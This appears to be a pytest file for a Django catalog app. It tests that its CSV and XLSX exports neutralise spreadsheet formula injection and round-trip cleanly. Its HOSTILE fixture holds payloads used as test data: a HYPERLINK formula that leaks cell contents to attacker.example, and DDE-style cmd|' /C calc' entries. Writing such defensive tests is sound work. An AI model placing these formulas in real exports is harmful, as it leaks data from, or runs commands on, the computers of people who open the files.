"""One CSV/spreadsheet writer: the site export, the API's CSV and the admin's CSV/XLSX export
neutralise formula prefixes the same way, join lists the same way and name columns from one
vocabulary; the admin's XLSX holds text, never formulas; the admin's export imports back."""

import csv
import datetime
import io
import json

import openpyxl
import pytest
from django.contrib.auth.models import Group, User
from django.core.files.uploadedfile import SimpleUploadedFile

from catalog import exports
from catalog.models import Commitment
from tests.factories import (
    ActivityCategoryFactory,
    CategoryAssignmentFactory,
    CommitmentFactory,
    InstitutionFactory,
    ThemeFactory,
)

pytestmark = pytest.mark.django_db

HOSTILE = {
    "equals": '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}
ADMIN_EXPORT = "/admin/catalog/commitment/export/"
CSV_FORMAT, JSON_FORMAT, XLSX_FORMAT = "0", "1", "2"


@pytest.fixture
def hostile(db):
    body = InstitutionFactory(name="Ministerial Council", slug="ministerial-council")
    themes = [
        ThemeFactory(name="=Theme one", position=1),
        ThemeFactory(name="Theme two", position=2),
    ]
    category = ActivityCategoryFactory(name="@Category")
    records = {}
    for n, (key, text) in enumerate(HOSTILE.items()):
        record = CommitmentFactory(
            slug=f"hostile-{key}",
            title=text,
            summary=text,
            meeting=text,
            adopting_body=body,
            year=2000 + n,
            last_reviewed_on=datetime.date(2026, 11, 1),
            themes=themes,
        )
        CategoryAssignmentFactory(commitment=record, category=category)
        records[key] = record
    return records


@pytest.fixture
def publisher_client(client, db):
    user = User.objects.create_user("publisher", password="a long test password", is_staff=True)
    user.groups.add(Group.objects.get(name="Publisher"))
    client.force_login(user)
    return client


def by_slug(rows):
    return {row["slug"]: row for row in rows}


def parse_csv(text):
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def site_csv(client):
    response = client.get("/en/commitments/export.csv")
    return parse_csv(b"".join(response.streaming_content).decode())


def api_csv(client):
    response = client.get("/api/v1/commitments/", {"format": "csv", "page_size": 100})
    return parse_csv(response.content.decode())


def admin_export(client, fmt):
    response = client.post(ADMIN_EXPORT, {"format": fmt, "resource": "0"})
    assert response.status_code == 200
    return b"".join(response) if response.streaming else response.content


def admin_csv(client):
    return parse_csv(admin_export(client, CSV_FORMAT).decode("utf-8"))


def expected(text):
    return "'" + text


@pytest.mark.parametrize("export", [site_csv, api_csv])
def test_public_csv_exports_neutralise_every_formula_prefix(client, hostile, export):
    rows = by_slug(export(client))
    for key, text in HOSTILE.items():
        row = rows[f"hostile-{key}"]
        assert row["title"] == expected(text), key
        assert row["summary"] == expected(text), key
        assert row["meeting"] == expected(text), key
        assert row["themes"] == "'=Theme one | Theme two"
        assert row["categories"] == "'@Category"


def test_admin_csv_export_neutralises_every_formula_prefix(publisher_client, hostile):
    rows = by_slug(admin_csv(publisher_client))
    for key, text in HOSTILE.items():
        assert rows[f"hostile-{key}"]["title"] == expected(text), key
        assert rows[f"hostile-{key}"]["themes"] == "'=Theme one | Theme two"


def test_admin_xlsx_export_holds_text_never_formulas(publisher_client, hostile):
    workbook = openpyxl.load_workbook(io.BytesIO(admin_export(publisher_client, XLSX_FORMAT)))
    sheet = workbook.active
    headers = [cell.value for cell in sheet[1]]
    title_column = headers.index("title")
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert cells
    assert {cell.data_type for cell in cells if cell.value is not None} <= {"s", "n"}
    titles = {row[title_column].value for row in sheet.iter_rows(min_row=2)}
    # XML (inside XLSX) reads a carriage return back as a line feed.
    assert titles == {expected(text).replace("\r", "\n") for text in HOSTILE.values()}
    for row in sheet.iter_rows(min_row=2):
        assert row[title_column].data_type == "s"


def test_xlsx_text_cells_stay_text_even_unescaped():
    """The format itself never writes a formula cell, whatever it is given."""
    import tablib

    from catalog.export_resources import SafeXLSX

    dataset = tablib.Dataset(["=1+1", 3, None], headers=["title", "year", "summary"])
    sheet = openpyxl.load_workbook(io.BytesIO(SafeXLSX().export_data(dataset))).active
    title, year, _summary = sheet[2]
    assert (title.value, title.data_type) == ("'=1+1", "s")
    assert (year.value, year.data_type) == (3, "n")


@pytest.mark.parametrize(("fmt", "name"), [(CSV_FORMAT, "c.csv"), (XLSX_FORMAT, "c.xlsx")])
def test_admin_export_with_hostile_cells_imports_back_unchanged(
    publisher_client, hostile, fmt, name
):
    before = {c.slug: (c.title, c.summary, c.meeting) for c in Commitment.objects.all()}
    themes_before = {
        c.slug: list(c.themes.values_list("pk", flat=True)) for c in Commitment.objects.all()
    }
    content = admin_export(publisher_client, fmt)
    preview = publisher_client.post(
        "/admin/catalog/commitment/import/",
        {
            "format": fmt,
            "resource": "0",
            "import_file": SimpleUploadedFile(name, content),
            "status": "file",
        },
    )
    form = preview.context["confirm_form"]
    publisher_client.post(
        "/admin/catalog/commitment/process_import/",
        {field: form[field].value() for field in form.fields},
        follow=True,
    )
    after = {c.slug: (c.title, c.summary, c.meeting) for c in Commitment.objects.all()}
    if fmt == XLSX_FORMAT:  # XML inside XLSX stores a carriage return as a line feed
        cr = before.pop("hostile-cr")
        assert after.pop("hostile-cr") == tuple("'" + text.replace("\r", "\n") for text in cr)
    assert after == before
    assert {
        c.slug: list(c.themes.values_list("pk", flat=True)) for c in Commitment.objects.all()
    } == themes_before


def test_lists_are_joined_one_way_everywhere(client, publisher_client, hostile):
    site = by_slug(site_csv(client))["hostile-equals"]
    api = by_slug(api_csv(client))["hostile-equals"]
    admin = by_slug(admin_csv(publisher_client))["hostile-equals"]
    assert site["themes"] == api["themes"] == admin["themes"] == "'=Theme one | Theme two"


def test_one_column_vocabulary(client, publisher_client, hostile):
    site = by_slug(site_csv(client))["hostile-minus"]
    api = by_slug(api_csv(client))["hostile-minus"]
    admin = by_slug(admin_csv(publisher_client))["hostile-minus"]
    json_export = json.loads(
        b"".join(client.get("/en/commitments/export.json").streaming_content).decode()
    )
    for columns in (site, api, admin, json_export["results"][0]):
        unknown = set(columns) - set(exports.VOCABULARY)
        assert unknown == set()
    for endpoint in ("institutions", "organisations", "themes", "categories"):
        response = client.get(f"/api/v1/{endpoint}/", {"format": "csv"})
        header = next(csv.reader(io.StringIO(response.content.decode())))
        assert set(header) <= set(exports.VOCABULARY), endpoint
    # A column shared by two exports holds the same value in both.
    for column in set(site) & set(api):
        assert site[column] == api[column], column
    for column in set(site) & set(admin):
        assert site[column] == admin[column], column
    assert site["adopting_body"] == "Ministerial Council"
    assert site["last_reviewed_on"] == "2026-11-01"
    assert json_export["columns"] == exports.COMMITMENT_COLUMNS


def test_institution_admin_export_is_safe(publisher_client, db):
    InstitutionFactory(name="=Evil body", slug="evil-body")
    response = publisher_client.post(
        "/admin/catalog/institution/export/", {"format": CSV_FORMAT, "resource": "0"}
    )
    (row,) = parse_csv(response.content.decode())
    assert row["name"] == "'=Evil body"
    assert set(row) <= set(exports.VOCABULARY)


def test_admin_export_queries_do_not_grow_with_the_number_of_records(publisher_client, hostile):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    with CaptureQueriesContext(connection) as small:
        admin_export(publisher_client, CSV_FORMAT)
    CommitmentFactory.create_batch(20, themes=[ThemeFactory()])
    with CaptureQueriesContext(connection) as large:
        admin_export(publisher_client, CSV_FORMAT)
    assert len(large.captured_queries) == len(small.captured_queries)
